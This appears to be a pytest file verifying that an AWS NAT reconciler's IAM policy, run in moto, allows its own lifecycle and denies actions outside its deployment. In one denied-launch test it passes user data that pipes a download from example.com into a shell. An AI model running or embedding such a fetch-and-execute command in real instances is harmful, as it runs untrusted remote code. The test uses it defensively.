"""The reconciler runs under the policy the role deploys, and nothing more.

Three layers (tests/security/policy.py says why):
- moto's own IAM enforcement, on for every call, with the reconciler holding
  the policy's actions (the only part of a policy moto evaluates for EC2):
  a whole lifecycle works, every other action is denied;
- the exact rendered policy, Resource and Condition included, evaluated for
  each (action, resource) pair of each EC2 call as IAM does: the lifecycle
  uses every grant, and touching anything outside the deployment is denied;
- a static reading of the policy: every statement that can change EC2 is
  held to this deployment's tags, VPC or own resources.
"""

from __future__ import annotations

import json
from pathlib import Path
from types import SimpleNamespace

import boto3
import pytest
from botocore.exceptions import ClientError
from moto import settings as moto_settings
from moto.core import DEFAULT_ACCOUNT_ID
from moto.core.authorization import ActionAuthenticatorMixin

from nat_zero import aws as nat_zero_aws
from nat_zero import handler as nat_zero_handler
from nat_zero.config import load_config
from tests.security.policy import Ec2Authorizer, Facts, allowing_statement, as_moto_evaluates, render_policy
from tests.simulation.runner import sandbox
from tests.support.world import AMI, AZS, REGION, SWEEP_EVENT, build_world, state_change_event

NAME = "demo"
AZ_A = "us-east-1a"
INSTANCE_ROLE = f"{NAME}-nat-zero-instance"
LAMBDA_ROLE = f"{NAME}-nat-zero-lambda"
MUTATING_EC2 = (
    "ec2:RunInstances",
    "ec2:StartInstances",
    "ec2:StopInstances",
    "ec2:TerminateInstances",
    "ec2:AllocateAddress",
    "ec2:AssociateAddress",
    "ec2:DisassociateAddress",
    "ec2:ReleaseAddress",
    "ec2:CreateTags",
    "ec2:CreateRoute",
    "ec2:ReplaceRoute",
    "ec2:ModifyNetworkInterfaceAttribute",
    "ec2:DeleteTags",
)
# Granted for the Lambda runtime, which writes the function's logs itself.
RUNTIME_ONLY = {"WriteItsLogs"}
# Not EC2, so the EC2 authorizer does not see its calls:
# test_only_the_health_rule_can_be_toggled and the ECS tests evaluate them.
NOT_EC2 = {"ToggleTheHealthRule", "ReadTheTagsOfTasksAndTheirServices", "ListTheClustersTasks"}
# The ECS reads of the ignore tag (lambda_src/nat_zero/ecs.py), with ecs a workload source.
ECS_READS = {"ecs:DescribeTasks", "ecs:ListClusters", "ecs:ListTagsForResource", "ecs:ListTasks"}
ECS_ARN = f"arn:aws:ecs:{REGION}:{DEFAULT_ACCOUNT_ID}"
HEALTH_RULE = f"arn:aws:events:{REGION}:{DEFAULT_ACCOUNT_ID}:rule/{NAME}-nat-zero-health"


def trust(service: str) -> str:
    statement = {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def credentials(keys: dict) -> dict:
    return {
        "aws_access_key_id": keys["AccessKeyId"],
        "aws_secret_access_key": keys["SecretAccessKey"],
        "aws_session_token": keys.get("SessionToken"),
    }


def admin_credentials(iam) -> dict:
    """The test's own principal: everything allowed, so only the reconciler is held."""
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    iam.create_user(UserName="admin")
    iam.put_user_policy(UserName="admin", PolicyName="everything", PolicyDocument=json.dumps(everything))
    return credentials(iam.create_access_key(UserName="admin")["AccessKey"])


def nat_instance_profile(iam) -> str:
    iam.create_role(RoleName=INSTANCE_ROLE, AssumeRolePolicyDocument=trust("ec2.amazonaws.com"))
    profile = iam.create_instance_profile(InstanceProfileName=INSTANCE_ROLE)["InstanceProfile"]
    iam.add_role_to_instance_profile(InstanceProfileName=INSTANCE_ROLE, RoleName=INSTANCE_ROLE)
    return profile["Arn"]


def harden_launch_templates(world, profile_arn: str) -> None:
    """A version like the role's (nat_launch_template): profile, IMDSv2,
    encrypted root, instance and volume tags, no key pair."""
    for az, zone in world.zones.items():
        tags = {
            "Name": f"{NAME}-nat-{az}",
            "nat-zero:managed": "true",
            "nat-zero:deployment": NAME,
            "nat-zero:az": az,
            "nat-zero:config-version": world.config_version,
        }
        tag_list = [{"Key": k, "Value": v} for k, v in tags.items()]
        data = {
            "ImageId": AMI,
            "InstanceType": "t4g.nano",
            "IamInstanceProfile": {"Arn": profile_arn},
            "MetadataOptions": {"HttpTokens": "required", "HttpPutResponseHopLimit": 1, "HttpEndpoint": "enabled"},
            "BlockDeviceMappings": [
                {"DeviceName": "/dev/xvda", "Ebs": {"VolumeType": "gp3", "VolumeSize": 10, "Encrypted": True}}
            ],
            "TagSpecifications": [
                {"ResourceType": "instance", "Tags": tag_list},
                {"ResourceType": "volume", "Tags": tag_list},
            ],
        }
        world.ec2.create_launch_template_version(LaunchTemplateId=zone.launch_template_id, LaunchTemplateData=data)


def private_route_table(ec2, world, az) -> str:
    """AZ's private route table as the role leaves it: 0.0.0.0/0 -> its private ENI."""
    table = ec2.create_route_table(VpcId=world.vpc_id)["RouteTable"]["RouteTableId"]
    ec2.create_route(
        RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", NetworkInterfaceId=world.zones[az].private_eni_id
    )
    return table


@pytest.fixture
def deployment(monkeypatch):
    """A deployment in moto as the role leaves it, the reconciler's role
    assumed, moto's IAM enforcement on, and the exact policy authorizing each
    EC2 call of the reconciler's client."""
    with sandbox(seed=0):
        iam = boto3.client("iam", region_name=REGION)
        admin = admin_credentials(iam)
        ec2 = boto3.client("ec2", region_name=REGION, **admin)
        world = build_world(NAME, azs=AZS[:2], ec2=ec2)
        profile_arn = nat_instance_profile(iam)
        harden_launch_templates(world, profile_arn)
        zones = json.loads(world.env()["NAT_ZERO_ZONES"])
        for az, zone in zones.items():
            zone["route_table_ids"] = [private_route_table(ec2, world, az)]
        instance_role = iam.get_role(RoleName=INSTANCE_ROLE)["Role"]["Arn"]
        # With ecs, every read the reconciler's client knows is granted (the most it can have).
        sources = {"nat_zero_workload_sources": ["ec2", "ecs"]}
        facts = Facts(NAME, world.vpc_id, REGION, DEFAULT_ACCOUNT_ID, zones, AMI, instance_role, overrides=sources)
        policy = render_policy(facts)

        role = iam.create_role(RoleName=LAMBDA_ROLE, AssumeRolePolicyDocument=trust("lambda.amazonaws.com"))["Role"]
        moto_policy = json.dumps(as_moto_evaluates(policy))
        iam.put_role_policy(RoleName=LAMBDA_ROLE, PolicyName="nat-zero-reconciler", PolicyDocument=moto_policy)
        session = boto3.client("sts", region_name=REGION).assume_role(RoleArn=role["Arn"], RoleSessionName="reconciler")
        reconciler = credentials(session["Credentials"])

        world.extra_env["NAT_ZERO_WORKLOAD_SOURCES"] = "ec2,ecs"
        for key, value in world.env().items():
            monkeypatch.setenv(key, value)
        monkeypatch.setenv("NAT_ZERO_ZONES", json.dumps(zones))
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", reconciler["aws_access_key_id"])
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", reconciler["aws_secret_access_key"])
        monkeypatch.setenv("AWS_SESSION_TOKEN", reconciler["aws_session_token"])
        nat_zero_aws._clients.clear()
        client = nat_zero_aws.ec2_client(load_config(), nat_zero_handler._counter)
        authorizer = Ec2Authorizer(client, policy, ec2, REGION, DEFAULT_ACCOUNT_ID)

        # From here on moto authenticates and authorizes every request.
        monkeypatch.setattr(moto_settings, "INITIAL_NO_AUTH_ACTION_COUNT", 0)
        monkeypatch.setattr(ActionAuthenticatorMixin, "request_count", 0)
        yield SimpleNamespace(
            world=world,
            ec2=ec2,
            iam=boto3.client("iam", region_name=REGION, **admin),
            policy=policy,
            authorizer=authorizer,
            reconciler=reconciler,
            facts=facts,
        )


def reconcile(event) -> dict:
    summary = nat_zero_handler.handler(event, None)
    assert "error" not in summary, summary["error"]
    for zone in summary["zones"]:
        assert all(o["result"] in ("done", "noop") for o in zone["outcomes"]), zone["outcomes"]
    return summary


def verdicts(summary) -> list:
    return [zone["verdict"] for zone in summary["zones"]]


def only_nat(world, az=AZ_A) -> dict:
    nats = world.nats(az)
    assert len(nats) == 1, nats
    return nats[0]


def reconciler_ec2(deployment, authorized: bool = True):
    """A full EC2 client with the reconciler's credentials (its own client
    knows only the ten operations it calls)."""
    client = boto3.client("ec2", region_name=REGION, **deployment.reconciler)
    if authorized:
        Ec2Authorizer(client, deployment.policy, deployment.ec2, REGION, DEFAULT_ACCOUNT_ID)
    return client


def watched_reconciler_ec2(deployment):
    """reconciler_ec2 and its authorizer, which keeps each request with the Sid that allowed it."""
    client = reconciler_ec2(deployment, authorized=False)
    return client, Ec2Authorizer(client, deployment.policy, deployment.ec2, REGION, DEFAULT_ACCOUNT_ID)


# -- the whole lifecycle, under both evaluations -----------------------------------------


def test_a_whole_lifecycle_works_and_uses_every_grant(deployment, monkeypatch):
    world = deployment.world
    workload = world.launch_workload(AZ_A)
    assert verdicts(reconcile(state_change_event(workload, "pending"))) == ["create_nat"]
    nat = only_nat(world)["InstanceId"]
    assert verdicts(reconcile(state_change_event(nat, "running"))) == ["steady"]

    world.ec2.stop_instances(InstanceIds=[workload])
    assert verdicts(reconcile(state_change_event(workload, "stopped"))) == ["stop_nat"]
    assert verdicts(reconcile(state_change_event(nat, "stopped"))) == ["release_eip"]
    assert world.eips() == []

    world.ec2.start_instances(InstanceIds=[workload])
    assert verdicts(reconcile(state_change_event(workload, "pending"))) == ["start_nat"]

    # New user tags go onto the NAT and its EIP in place, old ones come off.
    monkeypatch.setenv("NAT_ZERO_TAGS", json.dumps({"team": "network"}))
    assert verdicts(reconcile(SWEEP_EVENT))[0] == "retag"
    monkeypatch.setenv("NAT_ZERO_TAGS", "{}")
    assert verdicts(reconcile(SWEEP_EVENT))[0] == "retag"
    assert only_nat(world)["InstanceId"] == nat

    monkeypatch.setenv("NAT_ZERO_CONFIG_VERSION", "v2")
    assert verdicts(reconcile(SWEEP_EVENT))[0] == "replace_outdated_nat"
    assert verdicts(reconcile(state_change_event(nat, "terminated"))) == ["create_nat"]
    assert only_nat(world)["InstanceId"] != nat

    world.ec2.terminate_instances(InstanceIds=[workload])
    assert verdicts(reconcile(SWEEP_EVENT))[0] == "stop_nat"
    assert verdicts(reconcile(SWEEP_EVENT))[0] == "release_eip"

    # Drift repair: a route deleted and a source/dest check turned on by hand.
    zone = world.zones[AZ_A]
    table = deployment.facts.zones[AZ_A]["route_table_ids"][0]
    world.ec2.delete_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0")
    world.ec2.modify_network_interface_attribute(NetworkInterfaceId=zone.public_eni_id, SourceDestCheck={"Value": True})
    assert verdicts(reconcile(SWEEP_EVENT))[0] == "repair_drift"
    [routes] = world.ec2.describe_route_tables(RouteTableIds=[table])["RouteTables"]
    assert any(r.get("NetworkInterfaceId") == zone.private_eni_id for r in routes["Routes"])
    [eni] = world.ec2.describe_network_interfaces(NetworkInterfaceIds=[zone.public_eni_id])["NetworkInterfaces"]
    assert eni["SourceDestCheck"] is False

    denied = [r for r in deployment.authorizer.seen if r.sid is None]
    assert denied == []
    reads_made = {r.action for r in deployment.authorizer.seen if r.operation.startswith("Describe")}
    assert reads_made == granted_reads(deployment.policy)
    used = {r.sid for r in deployment.authorizer.seen}
    granted = {s["Sid"] for s in deployment.policy["Statement"]}
    assert used == granted - RUNTIME_ONLY - NOT_EC2, f"granted but never needed: {granted - RUNTIME_ONLY - used}"


# -- moto's enforcement: actions outside the policy ---------------------------------------


@pytest.mark.parametrize(
    "call",
    [
        lambda ec2, vpc: ec2.create_security_group(GroupName="open", Description="x", VpcId=vpc),
        lambda ec2, vpc: ec2.create_vpc(CidrBlock="10.9.0.0/16"),
        lambda ec2, vpc: ec2.modify_instance_attribute(
            InstanceId="i-0123456789abcdef0", SourceDestCheck={"Value": True}
        ),
        lambda ec2, vpc: ec2.delete_network_interface(NetworkInterfaceId="eni-0123456789abcdef0"),
        lambda ec2, vpc: ec2.create_key_pair(KeyName="backdoor"),
    ],
    ids=[
        "create_security_group",
        "create_vpc",
        "modify_instance_attribute",
        "delete_network_interface",
        "create_key_pair",
    ],
)
def test_moto_denies_an_action_outside_the_policy(deployment, call):
    with pytest.raises(ClientError) as denied:
        call(reconciler_ec2(deployment, authorized=False), deployment.world.vpc_id)
    assert denied.value.response["Error"]["Code"] in ("UnauthorizedOperation", "AccessDenied")


def test_moto_denies_the_reconciler_any_other_service(deployment):
    iam = boto3.client("iam", region_name=REGION, **deployment.reconciler)
    with pytest.raises(ClientError, match="AccessDenied|not authorized"):
        iam.create_user(UserName="intruder")


def test_moto_enforcement_is_on_and_lets_the_reconciler_read(deployment):
    reads = reconciler_ec2(deployment, authorized=False)
    assert reads.describe_instances()["Reservations"] is not None
    stranger = boto3.client(
        "ec2",
        region_name=REGION,
        aws_access_key_id="AKIAIOSFODNN7EXAMPLE",
        aws_secret_access_key="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    )
    with pytest.raises(ClientError):
        stranger.describe_instances()


# -- the exact policy: resources outside the deployment -----------------------------------


def foreign_eip(deployment, tags=None) -> str:
    spec = {}
    if tags:
        spec = {
            "TagSpecifications": [
                {"ResourceType": "elastic-ip", "Tags": [{"Key": k, "Value": v} for k, v in tags.items()]}
            ]
        }
    return deployment.ec2.allocate_address(Domain="vpc", **spec)["AllocationId"]


def neighbour_nat(deployment) -> str:
    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": "neighbour"}]
    return deployment.ec2.run_instances(
        ImageId=AMI,
        MinCount=1,
        MaxCount=1,
        SubnetId=deployment.world.zones[AZ_A].public_subnet_id,
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )["Instances"][0]["InstanceId"]


def our_run_instances(deployment, tags=None, enis=None, template=None):
    zone = deployment.world.zones[AZ_A]
    tags = {"nat-zero:managed": "true", "nat-zero:deployment": NAME} if tags is None else tags
    enis = enis or (zone.public_eni_id, zone.private_eni_id)
    kwargs = {}
    if tags:
        kwargs["TagSpecifications"] = [
            {"ResourceType": "instance", "Tags": [{"Key": k, "Value": v} for k, v in tags.items()]}
        ]
    return reconciler_ec2(deployment).run_instances(
        LaunchTemplate={"LaunchTemplateId": template or zone.launch_template_id, "Version": "$Latest"},
        MinCount=1,
        MaxCount=1,
        NetworkInterfaces=[{"NetworkInterfaceId": eni, "DeviceIndex": i} for i, eni in enumerate(enis)],
        **kwargs,
    )


def other_enis(deployment, deployment_name):
    subnet = deployment.world.zones[AZ_A].public_subnet_id
    tags = [{"ResourceType": "network-interface", "Tags": [{"Key": "nat-zero:deployment", "Value": deployment_name}]}]
    return tuple(
        deployment.ec2.create_network_interface(SubnetId=subnet, TagSpecifications=tags)["NetworkInterface"][
            "NetworkInterfaceId"
        ]
        for _ in range(2)
    )


def launch_another_image(d):
    zone = d.world.zones[AZ_A]
    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
    return reconciler_ec2(d).run_instances(
        ImageId="ami-0badc0ffee0ddf00d",
        MinCount=1,
        MaxCount=1,
        NetworkInterfaces=[
            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
        ],
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )


def launch_our_image_without_a_template(d):
    """Our image, ENIs and tags, but the user data, type and profile of the call's choosing."""
    zone = d.world.zones[AZ_A]
    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
    return reconciler_ec2(d).run_instances(
        ImageId=d.facts.image_id,
        MinCount=1,
        MaxCount=1,
        UserData="#!/bin/sh\ncurl http://example.com/x | sh",
        NetworkInterfaces=[
            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
        ],
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )


def launch_from_our_template_with_another_image(d):
    zone = d.world.zones[AZ_A]
    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
    return reconciler_ec2(d).run_instances(
        LaunchTemplate={"LaunchTemplateId": zone.launch_template_id, "Version": "$Latest"},
        ImageId=d.facts.image_id,
        MinCount=1,
        MaxCount=1,
        NetworkInterfaces=[
            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
        ],
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )


def our_nat(d):
    return our_run_instances(d)["Instances"][0]["InstanceId"]


def another_template(d):
    template = d.ec2.create_launch_template(LaunchTemplateName="other", LaunchTemplateData={"ImageId": AMI})
    return template["LaunchTemplate"]["LaunchTemplateId"]


def another_route_table(d) -> str:
    return d.ec2.create_route_table(VpcId=d.world.vpc_id)["RouteTable"]["RouteTableId"]


def our_route_table(d, az=AZ_A) -> str:
    return d.facts.zones[az]["route_table_ids"][0]


def default_route_to(ec2, route_table_id: str, eni_id: str):
    return ec2.create_route(RouteTableId=route_table_id, DestinationCidrBlock="0.0.0.0/0", NetworkInterfaceId=eni_id)


def users_eip_lent_to_us(d) -> str:
    return foreign_eip(d, {"nat-zero:deployment": NAME, "nat-zero:vpc": d.world.vpc_id, "nat-zero:eip-owner": "user"})


# name: (the call, with the reconciler's credentials; what IAM refuses in it)
OUTSIDE = {
    "route_in_a_route_table_not_of_the_deployment": (
        lambda d: default_route_to(reconciler_ec2(d), another_route_table(d), d.world.zones[AZ_A].private_eni_id),
        "ec2:CreateRoute on arn:aws:ec2:us-east-1:123456789012:route-table/rtb-",
    ),
    "change_source_dest_check_of_another_deployments_eni": (
        lambda d: reconciler_ec2(d).modify_network_interface_attribute(
            NetworkInterfaceId=other_enis(d, "neighbour")[0], SourceDestCheck={"Value": False}
        ),
        "ec2:ModifyNetworkInterfaceAttribute on arn:aws:ec2:us-east-1:123456789012:network-interface/eni-",
    ),
    "release_a_users_eip_lent_to_the_deployment": (
        lambda d: reconciler_ec2(d).release_address(AllocationId=users_eip_lent_to_us(d)),
        "ec2:ReleaseAddress on arn:aws:ec2:us-east-1:123456789012:elastic-ip/eipalloc-",
    ),
    "terminate_a_workload": (
        lambda d: reconciler_ec2(d).terminate_instances(InstanceIds=[d.world.launch_workload(AZ_A)]),
        "ec2:TerminateInstances on arn:aws:ec2:us-east-1:123456789012:instance/i-",
    ),
    "stop_another_deployments_nat": (
        lambda d: reconciler_ec2(d).stop_instances(InstanceIds=[neighbour_nat(d)]),
        "ec2:StopInstances on arn:aws:ec2:us-east-1:123456789012:instance/i-",
    ),
    "release_an_untagged_eip": (
        lambda d: reconciler_ec2(d).release_address(AllocationId=foreign_eip(d)),
        "ec2:ReleaseAddress on arn:aws:ec2:us-east-1:123456789012:elastic-ip/eipalloc-",
    ),
    "release_another_deployments_eip": (
        lambda d: reconciler_ec2(d).release_address(AllocationId=foreign_eip(d, {"nat-zero:deployment": "neighbour"})),
        "ec2:ReleaseAddress on arn:aws:ec2:us-east-1:123456789012:elastic-ip/eipalloc-",
    ),
    "put_an_untagged_eip_on_our_eni": (
        lambda d: reconciler_ec2(d).associate_address(
            AllocationId=foreign_eip(d), NetworkInterfaceId=d.world.zones[AZ_A].public_eni_id
        ),
        "ec2:AssociateAddress on arn:aws:ec2:us-east-1:123456789012:elastic-ip/eipalloc-",
    ),
    "put_our_eip_on_another_eni": (
        lambda d: reconciler_ec2(d).associate_address(
            AllocationId=foreign_eip(d, {"nat-zero:deployment": NAME}), NetworkInterfaceId=other_enis(d, "neighbour")[0]
        ),
        "ec2:AssociateAddress on arn:aws:ec2:us-east-1:123456789012:network-interface/eni-",
    ),
    "allocate_an_untagged_eip": (
        lambda d: reconciler_ec2(d).allocate_address(Domain="vpc"),
        "ec2:AllocateAddress on arn:aws:ec2:us-east-1:123456789012:elastic-ip/*",
    ),
    "launch_tagged_as_another_deployment": (
        lambda d: our_run_instances(d, tags={"nat-zero:managed": "true", "nat-zero:deployment": "neighbour"}),
        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
    ),
    "launch_onto_another_deployments_enis": (
        lambda d: our_run_instances(d, enis=other_enis(d, "neighbour")),
        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:network-interface/eni-",
    ),
    "launch_from_another_template": (
        lambda d: our_run_instances(d, template=another_template(d)),
        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:launch-template/lt-",
    ),
    "launch_our_image_without_a_template": (
        launch_our_image_without_a_template,
        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
    ),
    "launch_the_image_named_in_the_call_not_the_templates": (
        launch_from_our_template_with_another_image,
        f"ec2:RunInstances on arn:aws:ec2:us-east-1::image/{AMI}",
    ),
    "launch_another_templates_instance": (
        lambda d: our_run_instances(d, template=another_template(d)),
        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
    ),
    "launch_another_image": (
        launch_another_image,
        "ec2:RunInstances on arn:aws:ec2:us-east-1::image/ami-0badc0ffee0ddf00d",
    ),
    "move_our_nat_to_another_deployment": (
        lambda d: reconciler_ec2(d).create_tags(
            Resources=[our_nat(d)], Tags=[{"Key": "nat-zero:deployment", "Value": "neighbour"}]
        ),
        "ec2:CreateTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
    ),
    "untag_our_nat_as_a_nat": (
        lambda d: reconciler_ec2(d).delete_tags(Resources=[our_nat(d)], Tags=[{"Key": "nat-zero:managed"}]),
        "ec2:DeleteTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
    ),
    "retag_another_deployments_nat": (
        lambda d: reconciler_ec2(d).create_tags(Resources=[neighbour_nat(d)], Tags=[{"Key": "team", "Value": "x"}]),
        "ec2:CreateTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
    ),
    "tag_an_existing_instance": (
        lambda d: reconciler_ec2(d).create_tags(
            Resources=[d.world.launch_workload(AZ_A)], Tags=[{"Key": "nat-zero:deployment", "Value": NAME}]
        ),
        "ec2:CreateTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
    ),
}


@pytest.mark.parametrize("name", sorted(OUTSIDE))
def test_the_policy_denies_touching_anything_outside_the_deployment(deployment, name):
    call, refused = OUTSIDE[name]
    with pytest.raises(ClientError) as denied:
        call(deployment)
    assert denied.value.response["Error"]["Code"] == "UnauthorizedOperation"
    assert refused in denied.value.response["Error"]["Message"]


def test_the_same_calls_on_the_deployments_own_resources_are_allowed(deployment):
    launched = our_run_instances(deployment)["Instances"][0]["InstanceId"]
    ec2 = reconciler_ec2(deployment)
    allocation = ec2.allocate_address(
        Domain="vpc",
        TagSpecifications=[{"ResourceType": "elastic-ip", "Tags": [{"Key": "nat-zero:deployment", "Value": NAME}]}],
    )["AllocationId"]
    ec2.associate_address(AllocationId=allocation, NetworkInterfaceId=deployment.world.zones[AZ_A].public_eni_id)
    ec2.terminate_instances(InstanceIds=[launched])
    ec2.release_address(AllocationId=allocation)


def test_health_and_repair_calls_on_the_deployments_own_resources_are_allowed(deployment):
    """Drift repair and failover: a default route of each private route table
    to any AZ's private ENI, source/dest check of its ENIs, a user's EIP on
    its public ENI."""
    world, (ec2, authorizer) = deployment.world, watched_reconciler_ec2(deployment)
    ec2.describe_instance_status(IncludeAllInstances=True)
    ec2.describe_route_tables(RouteTableIds=[our_route_table(deployment)])
    default_route_to(ec2, our_route_table(deployment), world.zones[AZ_A].private_eni_id)
    # Failover: AZ a's route to AZ b's NAT.
    other_az = next(az for az in world.zones if az != AZ_A)
    ec2.replace_route(
        RouteTableId=our_route_table(deployment),
        DestinationCidrBlock="0.0.0.0/0",
        NetworkInterfaceId=world.zones[other_az].private_eni_id,
    )
    ec2.modify_network_interface_attribute(
        NetworkInterfaceId=world.zones[AZ_A].public_eni_id, SourceDestCheck={"Value": False}
    )
    lent = users_eip_lent_to_us(deployment)
    association = ec2.associate_address(AllocationId=lent, NetworkInterfaceId=world.zones[AZ_A].public_eni_id)
    ec2.disassociate_address(AssociationId=association["AssociationId"])

    sids = {r.action: r.sid for r in authorizer.seen}
    assert sids["ec2:CreateRoute"] == sids["ec2:ReplaceRoute"] == "RouteThisDeploymentsPrivateRouteTables"
    assert sids["ec2:ModifyNetworkInterfaceAttribute"] == "RepairSourceDestCheckOfThisDeploymentsEnis"
    assert sids["ec2:DescribeInstanceStatus"] == sids["ec2:DescribeRouteTables"] == "ReadEc2"


def test_the_deployments_own_elastic_ips_are_released_by_their_own_statement(deployment):
    ec2, authorizer = watched_reconciler_ec2(deployment)
    ours = foreign_eip(deployment, {"nat-zero:deployment": NAME, "nat-zero:vpc": deployment.world.vpc_id})
    ec2.release_address(AllocationId=ours)

    [release] = [r for r in authorizer.seen if r.action == "ec2:ReleaseAddress"]
    assert release.sid == "ReleaseThisDeploymentsOwnElasticIps"


@pytest.mark.parametrize("action", ["events:EnableRule", "events:DisableRule"])
def test_only_the_health_rule_can_be_toggled(deployment, action):
    assert allowing_statement(deployment.policy, action, HEALTH_RULE, {}) == "ToggleTheHealthRule"
    for other in ("sweep", "ec2-state", "spot-warning"):
        assert allowing_statement(deployment.policy, action, HEALTH_RULE.replace("health", other), {}) is None
    assert allowing_statement(deployment.policy, "events:PutRule", HEALTH_RULE, {}) is None


def test_retagging_our_nat_with_user_tags_is_allowed(deployment):
    ec2 = reconciler_ec2(deployment)
    nat = our_nat(deployment)
    ec2.create_tags(Resources=[nat], Tags=[{"Key": "team", "Value": "network"}, {"Key": "Name", "Value": "x"}])
    ec2.delete_tags(Resources=[nat], Tags=[{"Key": "team"}])


def test_a_key_pair_in_the_launch_template_would_be_denied(deployment):
    # The role's templates have no key pair; one added by hand would need a
    # grant on key-pair/* that the policy does not give.
    zone = deployment.world.zones[AZ_A]
    deployment.ec2.create_launch_template_version(
        LaunchTemplateId=zone.launch_template_id, SourceVersion="$Latest", LaunchTemplateData={"KeyName": "ops"}
    )
    with pytest.raises(ClientError, match="key-pair/ops"):
        our_run_instances(deployment)


# -- the policy, read ------------------------------------------------------------------------


def _mutating(statement) -> list:
    actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
    return [a for a in actions if a in MUTATING_EC2 or a in ("ec2:*", "*")]


def granted_reads(policy: dict) -> set:
    return {a for s in policy["Statement"] for a in s["Action"] if a.startswith("ec2:Describe")}


def test_the_reads_granted_are_exactly_those_the_reconciler_can_call(deployment):
    """Its client knows only the operations of the trimmed model it ships
    (lambda_src/nat_zero/botocore_data): a Describe call added to the code
    without the policy, or left in the policy without the code, fails here."""
    [model] = Path(nat_zero_aws.MODEL_DIR).glob("ec2/*/service-2.json")
    callable_reads = {f"ec2:{op}" for op in json.loads(model.read_text())["operations"] if op.startswith("Describe")}
    assert callable_reads == {f"ec2:{op}" for op in nat_zero_aws.EC2_OPERATIONS if op.startswith("Describe")}
    assert granted_reads(deployment.policy) == callable_reads
    assert not any("*" in action for s in deployment.policy["Statement"] for action in s["Action"])


def test_only_reads_are_granted_on_every_resource(deployment):
    for statement in deployment.policy["Statement"]:
        if statement["Resource"] == "*" or "*" in statement["Resource"]:
            assert set(statement["Action"]) <= granted_reads(deployment.policy) | ECS_READS, statement["Sid"]
        assert statement["Effect"] == "Allow" and "NotAction" not in statement and "NotResource" not in statement


def test_every_statement_that_changes_ec2_is_held_to_this_deployment(deployment):
    """Moto ignores Condition elements; this checks them where they are written."""
    facts = deployment.facts
    ours = {"ec2:ResourceTag/nat-zero:deployment": NAME, "aws:RequestTag/nat-zero:deployment": NAME}
    vpc_arn = f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:vpc/{facts.vpc_id}"
    own = {
        f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:launch-template/{z['launch_template_id']}"
        for z in facts.zones.values()
    }
    own |= {f"arn:aws:ec2:{REGION}::image/{facts.image_id}", f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:volume/*"}
    our_route_tables = {
        f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:route-table/{table}"
        for z in facts.zones.values()
        for table in z["route_table_ids"]
    }
    for statement in deployment.policy["Statement"]:
        if not _mutating(statement):
            continue
        equals = statement.get("Condition", {}).get("StringEquals", {})
        tagged = any(equals.get(key) == value for key, value in ours.items())
        creating_only = equals.get("ec2:CreateAction") is not None and statement["Action"] == ["ec2:CreateTags"]
        in_our_vpc = statement.get("Condition", {}).get("ArnEquals", {}).get("ec2:Vpc") == vpc_arn
        # A launch also acts on these; the instance itself must carry our tags (above).
        only_our_launch_parts = statement["Action"] == ["ec2:RunInstances"] and set(statement["Resource"]) <= own
        only_our_route_tables = set(statement["Resource"]) <= our_route_tables
        assert tagged or creating_only or in_our_vpc or only_our_launch_parts or only_our_route_tables, statement["Sid"]


def test_passing_a_role_is_limited_to_the_nat_instance_role_for_ec2(deployment):
    passes = [s for s in deployment.policy["Statement"] if "iam:PassRole" in s["Action"]]
    assert [s["Resource"] for s in passes] == [[deployment.facts.instance_role_arn]]
    assert passes[0]["Condition"] == {"StringEquals": {"iam:PassedToService": "ec2.amazonaws.com"}}


def test_every_launch_grant_is_held_to_this_deployments_launch_templates(deployment):
    templates = sorted(
        f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:launch-template/{z['launch_template_id']}"
        for z in deployment.facts.zones.values()
    )
    launches = [s for s in deployment.policy["Statement"] if "ec2:RunInstances" in s["Action"]]
    assert launches
    for statement in launches:
        assert sorted(statement["Condition"]["ArnEquals"]["ec2:LaunchTemplate"]) == templates, statement["Sid"]
    [image] = [s for s in launches if any(":image/" in r for r in s["Resource"])]
    assert image["Condition"]["Bool"] == {"ec2:IsLaunchTemplateResource": "true"}


def test_the_ecs_grants_are_the_reads_of_the_ignore_tag_and_nothing_else(deployment):
    ecs_actions = {a for s in deployment.policy["Statement"] for a in s["Action"] if a.startswith("ecs:")}
